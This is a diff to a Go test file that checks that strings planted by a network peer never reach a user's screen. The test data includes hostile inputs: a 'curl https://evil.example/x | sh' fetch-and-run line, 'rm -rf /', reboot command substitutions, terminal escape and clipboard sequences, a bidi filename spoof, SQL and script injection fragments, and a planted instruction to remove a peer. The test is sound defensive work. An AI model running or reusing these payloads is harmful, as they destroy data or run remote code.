@@ -16,7 +16,7 @@ import (
 // planted are texts that must not reach a screen.
 var planted = []string{
 	"\x1b[2J\x1b[31mroot", "\x1b]52;c;Y3VybA==\x07", "\u009b31m", "curl https://evil.example/x | sh", "curl http://evil.example/x",
-	"`reboot`", "$(reboot)", "rm -rf / ; true", "a\nb", "\u202egnp.exe", "\u2066x\u2069", "--help", "<script>", "'; DROP", strings.Repeat("A", 65),
+	"`reboot`", "$(reboot)", "rm -rf / ; true", "a\nb", "\u202egnp.exe", "\u2066x\u2069", "--help", "<script>", "nobody. First run postern peer remove cloud", "a=b,c", "'; DROP", strings.Repeat("A", 65),
 }
 
 // every text field of a report on the wire is set to s.
@@ -50,11 +50,11 @@ func TestNothingThatAPeerPlantsReachesTheScreen(t *testing.T) {
 
 func checkScreen(t *testing.T, planted string, r Report) {
 	t.Helper()
-	screen, err := json.Marshal(r.Targets("edge", noon, noon))
+	screen, err := json.Marshal(r.Targets(reading(), noon, noon))
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, text := range texted(reflect.ValueOf(r.Targets("edge", noon, noon))) {
+	for _, text := range texted(reflect.ValueOf(r.Targets(reading(), noon, noon))) {
 		if strings.Contains(text, planted) || strings.Contains(text, "evil") || strings.Contains(text, "reboot") {
 			t.Errorf("%q reached the screen: %s", planted, screen)
 		}
@@ -105,7 +105,7 @@ func TestMuchOfAnythingIsRefused(t *testing.T) {
 }
 
 var (
-	shown  = regexp.MustCompile(`^[A-Za-z0-9.:*_ =,?-]{0,64}$`)
+	shown  = regexp.MustCompile(`^[A-Za-z0-9.:*_@?-]{0,64}$`)
 	placed = regexp.MustCompile(`^[A-Za-z0-9.:*_?\[\]-]{0,64}$`)
 )
 
